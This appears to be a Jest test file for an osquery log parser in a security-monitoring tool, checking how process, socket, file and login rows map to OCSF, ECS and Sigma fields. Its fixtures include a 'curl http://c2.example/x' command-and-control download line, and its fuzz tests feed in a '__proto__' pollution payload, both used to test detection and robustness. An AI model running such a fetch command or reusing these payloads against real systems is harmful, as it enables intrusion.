import { toEcs, toNative, toOcsf } from '@vedette/event-model';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { aHostileRecord, deepTexts, deepValues } from '../testing/hostile-values.ts';
import { osquery } from './osquery.ts';
import { parseOsqueryRecord } from './parse-osquery-record.ts';
import { readQueryName } from './tables.ts';
import { aProcessEvent, aRow, aSocketEvent, aStatusLine } from './testing/osquery-records.ts';
import { unwrapOsquery } from './unwrap-osquery.ts';

const receivedAt = Date.UTC(2026, 1, 1);
const ranAt = Date.UTC(2026, 0, 31, 12);

function parse(record: Readonly<Record<string, unknown>>) {
  return parseOsqueryRecord(record, receivedAt);
}

describe('a process event', () => {
  it('is a launch with time, host, user and reference of its own', () => {
    expect(parse(aProcessEvent())).toMatchObject({
      ...{ source: 'osquery', classUid: 1007, activityId: 1, severityId: 1 },
      ...{ occurredAt: ranAt - 10_000, hostname: 'web1.corp.example', userName: 'root' },
      sourceRef: 'web1.corp.example/process_events/0000000017/1769860790',
    });
  });

  it("has its columns, the envelope and Sigma's names", () => {
    const { fields } = parse(aProcessEvent());
    expect({ ...fields }).toMatchObject({
      ...{ path: '/usr/bin/curl', cmdline: 'curl http://c2.example/x', pid: '4242' },
      ...{ Image: '/usr/bin/curl', CommandLine: 'curl http://c2.example/x', User: 'root' },
      ...{ CurrentDirectory: '/tmp', ParentProcessId: '1', 'osquery.event': 'process_creation' },
      ...{ 'osquery.platform': 'linux', 'osquery.table': 'process_events', 'osquery.counter': 7 },
    });
    // The agent tells the parent's number only.
    expect(fields).not.toHaveProperty('ParentImage');
    expect(parse(aProcessEvent({ uid: '1000' })).fields).not.toHaveProperty('User');
  });

  it('is one in OCSF and ECS', () => {
    const event = parse(aProcessEvent());
    expect(toOcsf(event)).toMatchObject({
      process: { pid: 4242, cmd_line: 'curl http://c2.example/x', file: { name: 'curl' } },
      device: { hostname: 'web1.corp.example' },
    });
    expect(toEcs(event)).toMatchObject({
      process: { executable: '/usr/bin/curl', pid: 4242, parent: { pid: 1 } },
    });
  });

  it('of macOS or Windows may be an end', () => {
    const mac = { event_type: 'exec', username: 'ann', pid: 7, path: '/bin/sh' };
    expect(parse(aRow('es_process_events', mac))).toMatchObject({
      ...{ activityId: 1, userName: 'ann' },
      fields: { 'osquery.platform': 'darwin', 'osquery.event': 'process_creation' },
    });
    const ended = parse(aRow('es_process_events', { ...mac, event_type: 'exit' }));
    expect(ended.activityId).toBe(2);
    expect(ended.fields).not.toHaveProperty('osquery.event');
    expect(parse(aRow('es_process_events', { ...mac, event_type: 'fork' })).activityId).toBe(99);
    const windows = { type: 'ProcessStop', path: 'C:\\a.exe', pid: 7 };
    expect(parse(aRow('process_etw_events', windows))).toMatchObject({
      ...{ activityId: 2, fields: { 'osquery.platform': 'windows' } },
    });
  });
});

describe('a row of another table', () => {
  it('of sockets is a connection, seen from who connected', () => {
    const out = parse(aSocketEvent());
    expect(out).toMatchObject({ classUid: 4001, activityId: 1 });
    expect(toOcsf(out)).toMatchObject({
      src_endpoint: { ip: '192.0.2.15', port: 50123 },
      dst_endpoint: { ip: '203.0.113.80', port: 443 },
      connection_info: { protocol_name: 'tcp', direction_id: 2 },
    });
    const { fields } = parse(aSocketEvent({ action: 'accept' }));
    expect({ ...fields }).toMatchObject({
      ...{ SourceIp: '203.0.113.80', DestinationIp: '192.0.2.15', DestinationPort: '50123' },
      Initiated: 'false',
    });
    expect(parse(aSocketEvent({ action: 'bind' })).activityId).toBe(7);
    expect(parse(aSocketEvent({ status: 'failed' })).activityId).toBe(4);
  });

  it.each([
    ['file_events', { action: 'CREATED', target_path: '/etc/x' }, 1001, 1],
    ['file_events', { action: 'MOVED_TO', target_path: '/etc/x' }, 1001, 5],
    ['file_events', { action: 'ATTRIBUTES_MODIFIED', target_path: '/etc/x' }, 1001, 6],
    ['file_events', { action: 'DELETED', target_path: '/etc/x' }, 1001, 4],
    ['ntfs_journal_events', { action: 'DataOverwrite', path: 'C:\\x' }, 1001, 3],
    ['powershell_events', { script_text: 'whoami' }, 1009, 1],
    ['dns_lookup_events', { name: 'a.example', type: 'A' }, 4003, 1],
    ['yara_events', { target_path: '/tmp/x', matches: 'rule_a' }, 2004, 1],
    ['hardware_events', { action: 'remove' }, 1010, 2],
    ['user_events', { type: '1112', message: 'acct="ann" res=success' }, 3002, 1],
    ['user_events', { type: '1106', message: '' }, 3002, 2],
    ['user_events', { type: '1101', message: '' }, 3002, 99],
    ['windows_events', { eventid: '4624', channel: 'Security', data: '{}' }, 3002, 1],
    ['listening_ports', { port: '8080', address: '0.0.0.0' }, 4001, 7],
    ['processes', { path: '/bin/x', pid: '1' }, 1007, 1],
    ['logged_in_users', { user: 'ann' }, 3002, 1],
    ['users', { username: 'eve' }, 3001, 1],
    ['scheduled_tasks', { name: 'x' }, 1006, 1],
    ['services', { name: 'x' }, 201004, 1],
    ['kernel_modules', { name: 'x' }, 1002, 1],
    ['startup_items', { name: 'x' }, 5019, 1],
    ['authorized_keys', { key: 'x' }, 5019, 1],
    ['some_query_of_somebody', { a: 'x' }, 5019, 1],
  ])('%s with %j is of class %i, activity %i', (name, columns, classUid, activityId) => {
    expect(parse(aRow(name, columns))).toMatchObject({ classUid, activityId });
  });

  it('of files has the name and the hashes that rules use', () => {
    const columns = { action: 'CREATED', target_path: '/etc/cron.d/x', md5: '', sha256: 'ab' };
    expect({ ...parse(aRow('file_events', columns)).fields }).toMatchObject({
      ...{ TargetFilename: '/etc/cron.d/x', Hashes: 'SHA256=ab', 'osquery.event': 'file_event' },
    });
  });

  it('of the audit of users tells who, from where, and whether it worked', () => {
    const message =
      'op=login acct="ann" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=ssh res=failed';
    const event = parse(aRow('user_events', { type: '1100', message }));
    expect(event).toMatchObject({ severityId: 2, userName: 'ann', fields: { outcome: 'failure' } });
    expect(toOcsf(event)).toMatchObject({
      ...{ status_id: 2, user: { name: 'ann' }, src_endpoint: { ip: '198.51.100.7' } },
    });
  });

  it("of Windows' own log is read as such an event", () => {
    const data =
      '{"EventData":{"TargetUserName":"ann","IpAddress":"198.51.100.7","LogonType":"3"}}';
    const columns = {
      ...{ eventid: '4625', channel: 'Security', computer_name: 'ws7', data },
      provider_name: 'Microsoft-Windows-Security-Auditing',
    };
    const event = parse(aRow('windows_events', columns, { hostIdentifier: 'uuid-1' }));
    expect(event).toMatchObject({ classUid: 3002, hostname: 'ws7', userName: 'ann' });
    expect({ ...event.fields }).toMatchObject({
      EventID: 4625,
      Channel: 'Security',
      LogonType: '3',
    });
  });

  it('that is gone is the opposite of one that is there', () => {
    const removed = { action: 'removed' };
    expect(parse(aRow('users', { username: 'eve' }, removed)).activityId).toBe(6);
    expect(parse(aRow('processes', { pid: '1' }, removed)).activityId).toBe(2);
    expect(parse(aRow('scheduled_tasks', { name: 'x' }, removed)).activityId).toBe(3);
  });

  it('of the first run, or of a snapshot, is inventory and no news', () => {
    for (const counter of [0, '0']) {
      const first = parse(aRow('processes', { path: '/bin/x' }, { counter }));
      expect(first).toMatchObject({ classUid: 5001, activityId: 2 });
      expect(first.fields['osquery.baseline']).toBe(true);
      expect(first.fields).not.toHaveProperty('osquery.event');
      expect(first.fields).not.toHaveProperty('Image');
    }
    const taken = parse(aRow('users', { username: 'ann' }, { action: 'snapshot' }));
    expect(taken).toMatchObject({ classUid: 5001 });
    expect(taken.fields).not.toHaveProperty('osquery.baseline');
    // What happened did happen, whichever run told it first.
    const event = parse({ ...aProcessEvent(), counter: 0 });
    expect(event).toMatchObject({ classUid: 1007, activityId: 1 });
  });

  it('keeps apart what the row and what the envelope calls alike', () => {
    const { fields } = parse(aRow('hardware_events', { action: 'add', name: 'stick' }));
    expect({ ...fields }).toMatchObject({
      ...{ action: 'add', name: 'stick', 'osquery.action': 'added' },
      'osquery.name': 'hardware_events',
    });
  });

  it('is known by its columns where the query has a name of its own', () => {
    const columns = { pid: 1, path: '/bin/x', cmdline: 'x', auid: '0' };
    expect(parse(aRow('new programs', columns)).fields['osquery.table']).toBe('process_events');
  });

  it('takes its host from decorations, its time from where it is told', () => {
    const decorations = { hostname: 'ws9', username: 'ann', platform: 'ubuntu' };
    const event = parse(aRow('socket_events', { action: 'connect' }, { decorations }));
    expect(event.hostname).toBe('ws9');
    // Who is logged in did not do it.
    expect(event.userName).toBeUndefined();
    expect(event.fields).toMatchObject({
      'decorations.username': 'ann',
      'osquery.platform': 'linux',
    });
    const calendarTime = 'Sat Jan 31 12:00:00 2026 UTC';
    expect(parse(aRow('users', {}, { unixTime: undefined, calendarTime })).occurredAt).toBe(ranAt);
    // Agents of long ago wrote the host's own wall clock.
    for (const text of ['Sat Jan 31 12:00:00 2026', 'Sat Foo 31 12:00:00 2026 UTC', ''])
      expect(parse(aRow('users', {}, { unixTime: 'x', calendarTime: text })).occurredAt).toBe(
        receivedAt,
      );
  });
});

describe('the name of a query', () => {
  it.each([
    ['process_events', null, 'process_events'],
    ['pack_linux_process_events', 'linux', 'process_events'],
    ['pack_my_own_pack_users', 'my_own_pack', 'users'],
    ['pack/mac/es_process_events', 'mac', 'es_process_events'],
    ['pack_it-compliance_mounts', 'it-compliance', null],
    ['pack_alone', null, null],
    ['packages', null, null],
    ['', null, null],
  ])('%s tells pack %s and table %s', (name, pack, table) => {
    expect(readQueryName(name)).toEqual({ pack, table });
  });
});

describe('a status line', () => {
  it('is about the agent', () => {
    const event = parse(aStatusLine());
    expect(event).toMatchObject({
      ...{ classUid: 5019, activityId: 1, severityId: 2, hostname: 'web1.corp.example' },
      occurredAt: ranAt,
    });
    expect(parse(aStatusLine({ severity: 0 })).severityId).toBe(1);
  });
});

describe('an object that holds many rows', () => {
  it('is taken apart, each row with the envelope', () => {
    const { columns, action, ...envelope } = aRow('users', { uid: '1' });
    expect(action).toBe('added');
    const snapshot = unwrapOsquery({
      ...envelope,
      action: 'snapshot',
      snapshot: [columns, { a: 1 }],
    });
    expect(snapshot).toEqual([
      { ...envelope, action: 'snapshot', columns },
      { ...envelope, action: 'snapshot', columns: { a: 1 } },
    ]);
    const batch = { ...envelope, diffResults: { added: [columns], removed: [{ uid: '2' }] } };
    expect(unwrapOsquery(batch)).toEqual([
      { ...envelope, action: 'added', columns },
      { ...envelope, action: 'removed', columns: { uid: '2' } },
    ]);
    expect(unwrapOsquery(aRow('users', {}))).toBeNull();
  });

  it('may be a whole call of the logger, whose key is not kept', () => {
    const call = {
      ...{ node_key: 'secret', log_type: 'result' },
      data: [
        aProcessEvent(),
        { ...aRow('users', {}), columns: undefined, snapshot: [{ uid: '1' }] },
      ],
    };
    const rows = unwrapOsquery(call) ?? [];
    expect(rows).toHaveLength(2);
    expect(JSON.stringify(rows)).not.toContain('secret');
  });

  it('that holds none is a record by itself', () => {
    const empty = { ...aRow('users', {}), columns: undefined, action: 'snapshot', snapshot: [] };
    expect(unwrapOsquery(empty)).toBeNull();
    expect(parse(empty)).toMatchObject({ classUid: 5001, hostname: 'web1.corp.example' });
  });
});

describe('a record of another shape', () => {
  it('is unmapped', () => {
    expect(parse({ hello: 'x' })).toMatchObject({ classUid: 0, fields: { hello: 'x' } });
    expect(parse({ columns: 7, name: 'users' })).toMatchObject({ classUid: 0 });
  });

  it('and settings that are none are refused', () => {
    expect(osquery.settings.safeParse({}).success).toBe(true);
    expect(osquery.settings.safeParse({ x: 1 }).success).toBe(false);
  });
});

describe('a hostile record', () => {
  const shapes = [
    aProcessEvent(),
    aSocketEvent(),
    aStatusLine(),
    aRow('user_events', { message: 'acct="a" res=1', type: 1100 }),
    aRow('windows_events', { eventid: 1, data: '{"EventData":{"__proto__":1}}' }),
  ];

  it('of any shape becomes events that every later step can carry', () => {
    fc.assert(
      fc.property(aHostileRecord(shapes), (record) => {
        for (const each of unwrapOsquery(record) ?? [record]) {
          const event = parse(each);
          const text = JSON.stringify([event, toNative(event), toOcsf(event), toEcs(event)]);
          expect(text.isWellFormed()).toBe(true);
          expect(text).not.toContain('\\u0000');
          expect(Number.isSafeInteger(event.occurredAt)).toBe(true);
          expect(Object.getPrototypeOf(event.fields)).toBeNull();
          expect(Object.keys(Object.prototype)).toEqual([]);
        }
      }),
      { numRuns: 300 },
    );
  });

  it.each(['message', 'data', 'path', 'time', 'eid', 'uid'])(
    'may be deep, or a megabyte, in %s',
    (name) => {
      const megabytes = ['x', 'acct="', 'res=', '{"a":', '"', ' '].map((part) =>
        part.repeat(1_000_000 / part.length),
      );
      for (const value of [...deepValues, ...deepTexts, ...megabytes]) {
        const started = performance.now();
        for (const table of ['process_events', 'user_events', 'windows_events', 'socket_events']) {
          const event = parse(aRow(table, { [name]: value }, { decorations: value, name: table }));
          expect(Object.keys(event.fields).length).toBeLessThan(9000);
          for (const key of ['hostname', 'userName', 'sourceRef'] as const)
            expect((event[key] ?? '').length).toBeLessThan(700);
        }
        expect(performance.now() - started).toBeLessThan(5_000);
      }
      for (const text of deepValues)
        expect(() => unwrapOsquery({ snapshot: text, data: text })).not.toThrow();
    },
  );
});
